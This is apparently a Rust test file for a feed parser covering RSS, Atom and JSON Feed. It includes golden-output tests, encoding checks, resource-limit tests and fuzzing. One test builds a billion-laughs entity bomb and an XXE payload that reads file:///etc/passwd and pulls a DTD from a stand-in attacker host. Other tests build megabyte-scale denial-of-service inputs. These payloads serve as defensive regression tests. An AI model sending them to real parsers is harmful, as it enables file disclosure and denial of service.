//! Golden feeds of every format, hostile ones, and a storm of damaged ones.

use std::time::{Duration, Instant};

use proptest::prelude::*;
use serde_json::{Value, json};

use super::*;

const RSS_091: &str = include_str!("golden/rss091.xml");
const RSS_10: &str = include_str!("golden/rss10.xml");
const RSS_20: &str = include_str!("golden/rss20.xml");
const ATOM: &str = include_str!("golden/atom.xml");
const JSON_FEED: &str = include_str!("golden/jsonfeed.json");
const ALL: [&str; 5] = [RSS_091, RSS_10, RSS_20, ATOM, JSON_FEED];

fn base() -> Url {
    Url::parse("https://feeds.example/all.xml").unwrap()
}

fn read_text(text: &str) -> Result<Reading, Found> {
    read(text.as_bytes(), None, Some(&base()), 500)
}

fn check(feed: &str, expected: &str) {
    let reading = read_text(feed).unwrap();
    let got = json!({ "title": reading.title, "items": reading.items, "warnings": reading.warnings });
    let mut expected: Value = serde_json::from_str(expected).unwrap();
    // An item without id and address is named by a hash of its text.
    for (item, wanted) in reading.items.iter().zip(expected["items"].as_array_mut().unwrap()) {
        if wanted["id"] == "HASH" {
            wanted["id"] = sha256_parts(&[item.title.as_bytes(), item.summary.as_bytes()]).into();
        }
    }
    assert_eq!(got, expected, "got {got:#}");
}

#[test]
fn rss_091_reads_as_expected() {
    check(RSS_091, include_str!("golden/rss091.expected.json"));
}

#[test]
fn rss_10_reads_as_expected() {
    check(RSS_10, include_str!("golden/rss10.expected.json"));
}

#[test]
fn rss_20_reads_as_expected() {
    check(RSS_20, include_str!("golden/rss20.expected.json"));
}

#[test]
fn atom_reads_as_expected() {
    check(ATOM, include_str!("golden/atom.expected.json"));
}

#[test]
fn json_feed_reads_as_expected() {
    check(JSON_FEED, include_str!("golden/jsonfeed.expected.json"));
}

#[test]
fn the_same_feed_in_other_encodings_reads_the_same() {
    let expected = read_text(RSS_20).unwrap();
    for (little, mark) in [(true, true), (false, true), (true, false), (false, false)] {
        let text = RSS_20.replace("UTF-8", "UTF-16");
        let units = mark.then_some(0xfeff).into_iter().chain(text.encode_utf16());
        let bytes: Vec<u8> = units.flat_map(|u| if little { u.to_le_bytes() } else { u.to_be_bytes() }).collect();
        assert_eq!(read(&bytes, Some("utf-8"), Some(&base()), 500).unwrap(), expected);
    }
    let lying = RSS_20.replace("UTF-8", "windows-1252");
    assert_eq!(read_text(&lying).unwrap(), expected);
}

#[test]
fn a_billion_laughs_fall_flat() {
    let mut bomb = String::from("<?xml version=\"1.0\"?><!DOCTYPE rss [<!ENTITY lol0 \"lol\">");
    for n in 1..10 {
        let inner = format!("&lol{};", n - 1).repeat(10);
        bomb.push_str(&format!("<!ENTITY lol{n} \"{inner}\">"));
    }
    bomb.push_str(
        "<!ENTITY xxe SYSTEM \"file:///etc/passwd\"><!ENTITY % ext SYSTEM \"http://evil.example/x.dtd\"> %ext;]>",
    );
    bomb.push_str("<rss version=\"2.0\"><channel><title>&lol9;</title><item><title>a &lol9; b &xxe; c</title></item></channel></rss>");
    let reading = read_text(&bomb).unwrap();
    assert_eq!(reading.title, "&lol9;");
    assert_eq!(reading.items[0].title, "a &lol9; b &xxe; c");
    assert_eq!(reading.warnings, ["the document declares its own entities; they were not expanded"]);
}

/// Hostile documents must be done with in time proportional to their size, even in an unoptimised build on a busy machine:
/// one that takes quadratic time needs hours for these, and two minutes are far more than a busy machine takes.
#[test]
fn size_alone_does_not_hurt() {
    const BYTES: usize = 1_000_000;
    let long = |piece: &str| piece.repeat(BYTES / piece.len());
    let numbered: String = (0..BYTES / 12).map(|n| format!(" a{n:06}=\"\"")).collect();
    let spaces: String = (0..BYTES / 20).map(|n| format!(" xmlns:a{n:06}=\"u\"")).collect();
    let hostile = [
        ("nesting", long("<a>")),
        ("nesting in a feed", format!("<rss><channel><item><description>{}", long("<b>"))),
        ("nesting in JSON", format!("{{\"items\":{}", long("["))),
        ("attributes", format!("<rss><channel><item{numbered}><title{numbered}>x</title></item></channel></rss>")),
        ("namespaces", format!("<rss{spaces}><channel><item><title>x</title></item></channel></rss>")),
        ("one text", format!("<rss><channel><item><title>{}</title></item></channel></rss>", long("&amp;lt;x "))),
        ("many items", format!("<rss><channel>{}</channel></rss>", long("<item><title>x</title></item>"))),
        ("ampersands", format!("<rss><channel><item><title>{}</title></item></channel></rss>", long("&"))),
        ("comments", format!("<rss><channel>{}</channel></rss>", long("<!---->"))),
        ("open comment", format!("<rss><channel><!-- {}", long("<!-- "))),
        ("doctype", format!("<!DOCTYPE rss [{}]><rss/>", long("<!ENTITY a \"&a;&a;\">"))),
        ("quotes", format!("<rss a=\"{}", long("='\""))),
        ("empty", long(" ")),
        ("zeros", "\0".repeat(BYTES)),
    ];
    for (name, document) in hostile {
        let begun = Instant::now();
        let outcome = read_text(&document);
        let took = begun.elapsed();
        assert!(took < Duration::from_secs(120), "{name} took {took:?}");
        println!("{name}: {took:?}");
        if let Err(found) = outcome {
            let line = found.to_string();
            assert!(!line.contains('\n') && line.len() < 600, "{name}: {line}");
        }
    }
}

#[test]
fn a_cut_feed_gives_its_whole_items() {
    let end = RSS_20.find("<title>A link that acts").unwrap();
    let reading = read_text(&RSS_20[..end]).unwrap();
    assert_eq!(reading.items.len(), 3);
    assert!(reading.warnings[0].contains("damaged at line"), "{:?}", reading.warnings);
    let end = RSS_20.find("<pubDate>").unwrap();
    let found = read_text(&RSS_20[..end]).unwrap_err();
    assert!(found.to_string().contains("before its first whole item (it ends in the middle)"), "{found}");
}

#[test]
fn other_documents_are_named() {
    for (document, says) in [
        ("<opml version='2.0'><head/></opml>", "list of feeds"),
        ("<urlset xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'/>", "a sitemap"),
        ("<svg xmlns='http://www.w3.org/2000/svg'/>", "root <svg>"),
        ("{\"message\":\"Not Found\"}", "no `version`"),
        ("", "an empty body"),
        ("Service unavailable", "text that begins \"Service unavailable\""),
        ("<!doctype html><title>Shop</title>", "an HTML page (\"Shop\")"),
        ("%PDF-1.7", "a PDF file"),
    ] {
        let found = read_text(document).unwrap_err().to_string();
        assert!(found.contains(says), "{document}: {found}");
    }
}

#[test]
fn bounds_hold() {
    let title = "t".repeat(2 * TITLE_CHARS_MAX);
    let summary = "s".repeat(2 * SUMMARY_CHARS_MAX);
    let categories: String =
        (0..50).map(|n| format!("<category>{}</category>", format!("c{n:03}").repeat(40))).collect();
    let id = "i".repeat(1_000);
    let one =
        format!("<item><title>{title}</title><guid>{id}</guid><description>{summary}</description>{categories}</item>");
    let many: String = (0..700).map(|n| format!("<item><title>n{n}</title></item>")).collect();
    let reading = read_text(&format!("<rss><channel>{one}{many}</channel></rss>")).unwrap();
    assert_eq!(reading.items.len(), 500);
    assert_eq!(reading.warnings, ["only the newest 500 of 701 items are given"]);
    let first = &reading.items[0];
    assert_eq!(first.title.chars().count(), TITLE_CHARS_MAX);
    assert_eq!(first.summary.chars().count(), SUMMARY_CHARS_MAX);
    assert_eq!(first.id, sha256_parts(&[id.as_bytes()]));
    assert_eq!(first.categories.len(), CATEGORIES_MAX);
    assert!(first.categories.iter().all(|c| c.chars().count() == CATEGORY_CHARS_MAX));
}

#[test]
fn wild_but_honest_feeds_are_read() {
    for (feed, title) in [
        ("<rss><channel><item><title>No version</title></item></channel></rss>", "No version"),
        (
            "<rss version='2.00' xmlns='http://backend.userland.com/rss2'><channel><item><title>Old home</title></item></channel></rss>",
            "Old home",
        ),
        ("<rss><item><title>No channel</title></item></rss>", "No channel"),
        ("<rss><channel><item><title>R&D at AT&T</title></item></channel></rss>", "R&D at AT&T"),
        ("<rss><channel><item><title>Raw <b>mark</b>up &lt; text</title></item></channel></rss>", "Raw markup < text"),
        (
            "<feed version='0.3' xmlns='http://purl.org/atom/ns#'><entry><title mode='escaped' type='text/html'>&lt;i&gt;Old&lt;/i&gt; Atom</title><issued>2004-01-01T00:00:00Z</issued></entry></feed>",
            "Old Atom",
        ),
        ("<entry xmlns='http://www.w3.org/2005/Atom'><title>One entry</title><id>x</id></entry>", "One entry"),
        (
            "\u{feff}\n\n<?xml version='1.0'?><rss><channel><item><dc:title>Undeclared prefix</dc:title></item></channel></rss>",
            "Undeclared prefix",
        ),
        (
            "<rss xml:base='http://['><channel><item xml:base='::'><title>Bad base</title></item></channel></rss>",
            "Bad base",
        ),
        (
            "<rss><channel><item><title>Bad number &#0; &#x110000; &#xD800;</title></item></channel></rss>",
            "Bad number \u{FFFD} \u{FFFD} \u{FFFD}",
        ),
    ] {
        let reading = read_text(feed).unwrap_or_else(|found| panic!("{feed}: {found}"));
        assert_eq!(reading.items[0].title, title, "{feed}");
    }
}

#[test]
fn an_edited_item_is_a_new_event_and_a_repeated_one_is_not_listed_twice() {
    let feed = |second: &str| {
        format!(
            "<rss><channel><item><guid>1</guid><title>A</title></item><item><guid>1</guid><title>{second}</title></item></channel></rss>"
        )
    };
    assert_eq!(read_text(&feed("A")).unwrap().items.len(), 1);
    assert_eq!(read_text(&feed("A!")).unwrap().items.len(), 2);
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

    /// Whatever bytes come, an answer comes back, and an error is one line. A fuzz target for coverage-guided search may
    /// call `read` in the same way.
    #[test]
    fn any_bytes_are_survived(bytes in proptest::collection::vec(any::<u8>(), 0..400)) {
        let _ = read(&bytes, None, None, 10);
    }

    #[test]
    fn any_xml_like_text_is_survived(pieces in proptest::collection::vec(
        prop::sample::select(vec!["<rss>", "<channel>", "<item>", "<title>", "</title>", "</item>", "</", "<", ">", "&", ";", "&#", "&amp;", "\"", "'", "=",
            "<![CDATA[", "]]>", "<!--", "-->", "<!DOCTYPE", "[", "]", "<?xml", "?>", "<feed xmlns='http://www.w3.org/2005/Atom'>", "<entry>", "<content type='xhtml'>",
            "<link href='", "/>", "<author>", "、a@b.co", "<pubDate>", "Wed, 99 Nov", "xml:base='x'", "é", "\u{0}", "{", "}", "<media:group>", "<media:description>",
            "</entry>", "</feed>", "</channel>", "</rss>"]), 0..60)) {
        let _ = read_text(&pieces.concat());
    }

    #[test]
    fn damaged_feeds_are_survived(which in 0..ALL.len(), cuts in proptest::collection::vec((any::<prop::sample::Index>(), any::<prop::sample::Index>(), any::<u8>(), 0..4u8), 1..6)) {
        let mut bytes = ALL[which].as_bytes().to_vec();
        for (at, to, byte, how) in cuts {
            if bytes.is_empty() { break; }
            let (at, to) = (at.index(bytes.len()), to.index(bytes.len()));
            match how {
                0 => bytes[at] = byte,
                1 => bytes.truncate(at.max(1)),
                2 => { bytes.drain(at.min(to)..at.max(to).min(at.min(to) + 40)); }
                _ => { let copy = bytes[at.min(to)..at.max(to)].to_vec(); bytes.splice(at..at, copy); }
            }
        }
        match read(&bytes, None, Some(&base()), 500) {
            Ok(reading) => for item in reading.items {
                prop_assert!(!item.id.is_empty() && !item.title.is_empty());
                let harmless = !item.title.contains(['\n', '\u{1b}']);
                prop_assert!(item.title.chars().count() <= TITLE_CHARS_MAX && harmless);
                prop_assert!(item.summary.chars().count() <= SUMMARY_CHARS_MAX);
                prop_assert!(item.url.is_none_or(|url| url.starts_with("http")));
            },
            Err(found) => prop_assert!(!found.to_string().contains('\n')),
        }
    }

    #[test]
    fn damaged_authors_do_not_reach_the_parser(author in "\\PC{0,12}[a-z]@[a-z]{1,3}\\.com?\\PC{0,12}") {
        let author = author.replace(['<', '&', '"', '\\'], "");
        let feed = format!("<rss><channel><managingEditor>{author}</managingEditor><item><title>t</title><author>{author}</author><dc:creator>{author}</dc:creator></item></channel></rss>");
        prop_assert_eq!(read_text(&feed).unwrap().items.len(), 1);
        let json = format!(r#"{{"version":"https://jsonfeed.org/version/1","title":"x","author":{{"name":"{author}"}},"items":[{{"id":"1","title":"t","authors":[{{"name":"{author}"}}]}}]}}"#);
        prop_assert_eq!(read_text(&json).unwrap().items.len(), 1);
    }
}
